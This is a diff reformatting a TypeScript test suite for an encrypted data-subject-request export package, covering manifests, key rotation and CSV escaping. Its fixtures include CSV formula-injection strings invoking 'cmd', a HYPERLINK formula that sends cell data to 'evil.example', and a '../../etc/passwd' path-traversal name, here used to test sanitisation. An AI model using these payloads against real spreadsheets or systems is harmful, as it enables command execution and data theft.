@@ -5,7 +5,13 @@ import * as yauzl from 'yauzl';
 import { ZipFile } from 'yazl';
 import type { SystemExport } from './connectors/connector';
 import { KeyRing, KeyRingError } from './crypto/key-ring';
-import { csvCell, ExportPackageInvalidError, openExportPackage, readExportPackage, writeExportPackage } from './export-package';
+import {
+  csvCell,
+  ExportPackageInvalidError,
+  openExportPackage,
+  readExportPackage,
+  writeExportPackage,
+} from './export-package';
 
 const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
 
@@ -77,18 +83,28 @@ const exports: SystemExport[] = [
         columns: [],
         rows: [
           { id: 1, body: '+1 great clinic', author: 'somchai' },
-          { id: 2, body: '-2+3+cmd|\' /C calc\'!A0', author: 'somchai', edited: null },
-          { id: 3, body: '@SUM(1+1)*cmd|\' /C calc\'!A0', author: 'somchai' },
+          { id: 2, body: "-2+3+cmd|' /C calc'!A0", author: 'somchai', edited: null },
+          { id: 3, body: "@SUM(1+1)*cmd|' /C calc'!A0", author: 'somchai' },
           { id: 4, body: '\t=1+1', author: 'somchai' },
           { id: 5, body: 'line one\nline "two", with comma', author: 'somchai' },
         ],
       },
     ],
   },
-  { system: 'newsletter', tables: [{ table: '../../etc/passwd', columns: ['email'], rows: [{ email: 'somchai@example.co.th' }] }, { table: '../../etc/passwd', columns: ['email'], rows: [] }] },
+  {
+    system: 'newsletter',
+    tables: [
+      { table: '../../etc/passwd', columns: ['email'], rows: [{ email: 'somchai@example.co.th' }] },
+      { table: '../../etc/passwd', columns: ['email'], rows: [] },
+    ],
+  },
 ];
 
-const subject = { right: 'access', receivedAt: new Date('2026-02-03T04:05:06Z'), identity: { fullName: 'สมชาย ใจดี', email: 'somchai@example.co.th', nationalId: '1101700203451' } };
+const subject = {
+  right: 'access',
+  receivedAt: new Date('2026-02-03T04:05:06Z'),
+  identity: { fullName: 'สมชาย ใจดี', email: 'somchai@example.co.th', nationalId: '1101700203451' },
+};
 
 describe('writeExportPackage', () => {
   const k1 = randomBytes(32);
@@ -96,7 +112,14 @@ describe('writeExportPackage', () => {
 
   const write = async (keyRing = ring) => {
     const sink = memorySink();
-    const written = await writeExportPackage({ reference: 'DSR-2026-0042', subject, exports, keyRing, out: sink.out, createdAt: new Date('2026-02-04T00:00:00Z') });
+    const written = await writeExportPackage({
+      reference: 'DSR-2026-0042',
+      subject,
+      exports,
+      keyRing,
+      out: sink.out,
+      createdAt: new Date('2026-02-04T00:00:00Z'),
+    });
     return { written, stored: sink.stored() };
   };
 
@@ -116,7 +139,12 @@ describe('writeExportPackage', () => {
     const files = await unzipAll(zip);
     const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8'));
     expect(manifest).toEqual(written.manifest);
-    expect(manifest).toMatchObject({ format: 'attest-dsr-export/1', generator: { name: 'attest' }, reference: 'DSR-2026-0042', createdAt: '2026-02-04T00:00:00.000Z' });
+    expect(manifest).toMatchObject({
+      format: 'attest-dsr-export/1',
+      generator: { name: 'attest' },
+      reference: 'DSR-2026-0042',
+      createdAt: '2026-02-04T00:00:00.000Z',
+    });
     expect(manifest.generator.version).toMatch(/^\d+\.\d+\.\d+/);
     expect([...files.keys()].sort()).toEqual(
       [
@@ -132,11 +160,19 @@ describe('writeExportPackage', () => {
         'systems/patient-platform/patients.json',
       ].sort(),
     );
-    expect(manifest.files.map((f: { path: string }) => f.path).sort()).toEqual([...files.keys()].filter((p) => p !== 'manifest.json').sort());
+    expect(manifest.files.map((f: { path: string }) => f.path).sort()).toEqual(
+      [...files.keys()].filter((p) => p !== 'manifest.json').sort(),
+    );
     for (const f of manifest.files) {
-      expect({ path: f.path, sha256: sha(files.get(f.path)!), bytes: files.get(f.path)!.length }).toEqual({ path: f.path, sha256: f.sha256, bytes: f.bytes });
+      expect({ path: f.path, sha256: sha(files.get(f.path)!), bytes: files.get(f.path)!.length }).toEqual({
+        path: f.path,
+        sha256: f.sha256,
+        bytes: f.bytes,
+      });
     }
-    expect(manifest.files.find((f: { path: string }) => f.path === 'systems/patient-platform/community_posts.json')).toMatchObject({ system: 'patient-platform', table: 'community_posts', rows: 5 });
+    expect(
+      manifest.files.find((f: { path: string }) => f.path === 'systems/patient-platform/community_posts.json'),
+    ).toMatchObject({ system: 'patient-platform', table: 'community_posts', rows: 5 });
 
     expect(JSON.parse(files.get('subject.json')!.toString('utf8'))).toEqual({
       reference: 'DSR-2026-0042',
@@ -178,7 +214,16 @@ describe('writeExportPackage', () => {
       'line one\nline "two", with comma',
     ]);
     const patients = parse(files.get('systems/patient-platform/patients.csv')!, { bom: true }) as string[][];
-    expect(patients[1]).toEqual(['17', 'สมชาย ใจดี', 'somchai@example.co.th', '-12.5', '1990-04-01T00:00:00.000Z', 'AAEC/w==', '{"vip":true,"list":["a","=b"]}', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`]);
+    expect(patients[1]).toEqual([
+      '17',
+      'สมชาย ใจดี',
+      'somchai@example.co.th',
+      '-12.5',
+      '1990-04-01T00:00:00.000Z',
+      'AAEC/w==',
+      '{"vip":true,"list":["a","=b"]}',
+      `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
+    ]);
   });
 
   it.each([
@@ -199,7 +244,10 @@ describe('writeExportPackage', () => {
 
   it('round-trips through readExportPackage, also after a key rotation', async () => {
     const { written, stored } = await write(ring);
-    const rotated = new KeyRing([{ id: 'k2', key: randomBytes(32) }, { id: 'k1', key: k1 }]);
+    const rotated = new KeyRing([
+      { id: 'k2', key: randomBytes(32) },
+      { id: 'k1', key: k1 },
+    ]);
     for (const r of [ring, rotated]) {
       const read = await readExportPackage(source(stored), r);
       expect(read.sha256).toBe(written.sha256);
@@ -208,22 +256,32 @@ describe('writeExportPackage', () => {
     }
   });
 
-  it('a key that is not the writer\'s cannot open the package', async () => {
+  it("a key that is not the writer's cannot open the package", async () => {
     const { stored } = await write(ring);
-    await expect(readExportPackage(source(stored), new KeyRing([{ id: 'k7', key: randomBytes(32) }]))).rejects.toMatchObject({ code: 'crypto.key_unknown' });
-    await expect(readExportPackage(source(stored), new KeyRing([{ id: 'k1', key: randomBytes(32) }]))).rejects.toMatchObject({ code: 'crypto.integrity_failed' });
-    await expect(drain(openExportPackage(source(stored), new KeyRing([{ id: 'k1', key: randomBytes(32) }])))).rejects.toBeInstanceOf(KeyRingError);
+    await expect(
+      readExportPackage(source(stored), new KeyRing([{ id: 'k7', key: randomBytes(32) }])),
+    ).rejects.toMatchObject({ code: 'crypto.key_unknown' });
+    await expect(
+      readExportPackage(source(stored), new KeyRing([{ id: 'k1', key: randomBytes(32) }])),
+    ).rejects.toMatchObject({ code: 'crypto.integrity_failed' });
+    await expect(
+      drain(openExportPackage(source(stored), new KeyRing([{ id: 'k1', key: randomBytes(32) }]))),
+    ).rejects.toBeInstanceOf(KeyRingError);
   });
 
   it('changed stored bytes error the download stream', async () => {
     const { stored } = await write(ring);
     stored[40] ^= 1;
-    await expect(drain(openExportPackage(source(stored), ring))).rejects.toMatchObject({ code: 'crypto.integrity_failed' });
+    await expect(drain(openExportPackage(source(stored), ring))).rejects.toMatchObject({
+      code: 'crypto.integrity_failed',
+    });
   });
 
   it('truncated stored bytes error the download stream', async () => {
     const { stored } = await write(ring);
-    await expect(drain(openExportPackage(source(stored.subarray(0, stored.length - 100)), ring))).rejects.toBeInstanceOf(KeyRingError);
+    await expect(
+      drain(openExportPackage(source(stored.subarray(0, stored.length - 100)), ring)),
+    ).rejects.toBeInstanceOf(KeyRingError);
   });
 
   it('a failing reader errors the download stream', async () => {
@@ -241,13 +299,21 @@ describe('writeExportPackage', () => {
         done(new Error('the database went away'));
       },
     });
-    await expect(writeExportPackage({ reference: 'R', subject, exports, keyRing: ring, out })).rejects.toThrow(/the database went away/);
+    await expect(writeExportPackage({ reference: 'R', subject, exports, keyRing: ring, out })).rejects.toThrow(
+      /the database went away/,
+    );
   });
 
   it('handles a package larger than many encryption segments', async () => {
     const rows = Array.from({ length: 20_000 }, (_, i) => ({ id: i, noise: randomBytes(24).toString('hex') }));
     const sink = memorySink();
-    const written = await writeExportPackage({ reference: 'DSR-BIG', subject, exports: [{ system: 's', tables: [{ table: 't', columns: ['id', 'noise'], rows }] }], keyRing: ring, out: sink.out });
+    const written = await writeExportPackage({
+      reference: 'DSR-BIG',
+      subject,
+      exports: [{ system: 's', tables: [{ table: 't', columns: ['id', 'noise'], rows }] }],
+      keyRing: ring,
+      out: sink.out,
+    });
     expect(written.bytes).toBeGreaterThan(1_000_000);
     const read = await readExportPackage(source(sink.stored()), ring);
     expect(JSON.parse(read.files.get('systems/s/t.json')!.toString('utf8')).rows).toEqual(rows);
@@ -274,12 +340,33 @@ describe('readExportPackage', () => {
   }
 
   const manifest = (files: Array<{ path: string; text: string }>) =>
-    JSON.stringify({ format: 'attest-dsr-export/1', generator: { name: 'test', version: '0' }, reference: 'R', createdAt: '2026-01-01T00:00:00Z', files: files.map((f) => ({ path: f.path, sha256: sha(Buffer.from(f.text)), bytes: Buffer.byteLength(f.text) })) });
+    JSON.stringify({
+      format: 'attest-dsr-export/1',
+      generator: { name: 'test', version: '0' },
+      reference: 'R',
+      createdAt: '2026-01-01T00:00:00Z',
+      files: files.map((f) => ({ path: f.path, sha256: sha(Buffer.from(f.text)), bytes: Buffer.byteLength(f.text) })),
+    });
 
   it.each([
-    ['a changed file', { 'subject.json': '{"x":2}' }, [{ path: 'subject.json', text: '{"x":1}' }], /subject.json has 7 bytes|does not match its SHA-256/],
-    ['a missing file', {}, [{ path: 'subject.json', text: '{}' }], /subject.json is listed in the manifest but not in the package/],
-    ['an unlisted file', { 'subject.json': '{}', 'extra.csv': 'x' }, [{ path: 'subject.json', text: '{}' }], /extra.csv is not listed in the manifest/],
+    [
+      'a changed file',
+      { 'subject.json': '{"x":2}' },
+      [{ path: 'subject.json', text: '{"x":1}' }],
+      /subject.json has 7 bytes|does not match its SHA-256/,
+    ],
+    [
+      'a missing file',
+      {},
+      [{ path: 'subject.json', text: '{}' }],
+      /subject.json is listed in the manifest but not in the package/,
+    ],
+    [
+      'an unlisted file',
+      { 'subject.json': '{}', 'extra.csv': 'x' },
+      [{ path: 'subject.json', text: '{}' }],
+      /extra.csv is not listed in the manifest/,
+    ],
   ])('refuses %s', async (_what, contents, listed, message) => {
     const sealed = await sealZip({ ...contents, 'manifest.json': manifest(listed) });
     const error = await readExportPackage(source(sealed), ring).catch((e: unknown) => e);
